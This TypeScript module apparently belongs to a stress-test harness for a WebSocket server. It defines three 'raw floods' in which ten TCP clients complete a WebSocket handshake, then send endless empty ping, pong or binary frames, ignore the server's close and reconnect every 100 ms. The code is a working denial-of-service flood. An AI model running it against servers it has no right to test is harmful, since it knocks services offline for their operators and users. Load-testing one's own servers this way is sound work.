/** Frames that cost their sender six bytes, by ten members who speak TCP and heed nothing that they are told. */
import { randomBytes } from 'node:crypto';
import { setMaxListeners } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Tally } from '../attack.ts';
import { type Seat, socketUrl } from '../seat.ts';

const attackers = 10;
const comeBackMs = 100;
const pieceFrames = 10_000;

/** `opcode` of RFC 6455; empty, and masked as a client's must be. */
function floodOf(name: string, opcode: number): Attack {
  const piece = Buffer.alloc(pieceFrames * 6);
  for (let at = 0; at < piece.length; at += 6) piece.set([0x80 | opcode, 0x80], at);
  return {
    name,
    async run({ url, seats }, tally, signal) {
      setMaxListeners(0, signal);
      const one = async (seat: Seat): Promise<void> => {
        while (!signal.aborted) {
          await flood(socketUrl(url, seat), piece, tally, signal);
          await sleep(comeBackMs);
        }
      };
      await Promise.all(seats.slice(0, attackers).map(one));
    },
  };
}

function flood(address: string, piece: Buffer, tally: Tally, signal: AbortSignal): Promise<void> {
  const { host, hostname, port, pathname, search } = new URL(address);
  // Its end stays open when the server has ended the other.
  const socket = connect({ port: Number(port), host: hostname, allowHalfOpen: true });
  let closeCode = 1006;
  const more = (): void => {
    if (!socket.writable || signal.aborted) return;
    tally.sent += pieceFrames;
    socket.write(piece, more);
  };
  socket.on('error', () => {});
  socket.once('data', more);
  socket.on('data', (data: Buffer) => {
    const at = data.lastIndexOf(0x88);
    const code = at === -1 || at + 4 > data.length ? 0 : data.readUInt16BE(at + 2);
    if (code >= 1000 && code < 5000) closeCode = code;
  });
  socket.write(
    `GET ${pathname}${search} HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  signal.addEventListener('abort', () => socket.destroy());
  return new Promise((resolve) => {
    socket.on('close', () => {
      tally.closed(closeCode);
      resolve();
    });
  });
}

export const rawFloods: readonly Attack[] = [
  floodOf('pings of the socket', 9),
  floodOf('pongs that answer nothing', 10),
  // Their session ends within a hundred of them.
  floodOf('empty frames, also after the close', 2),
];
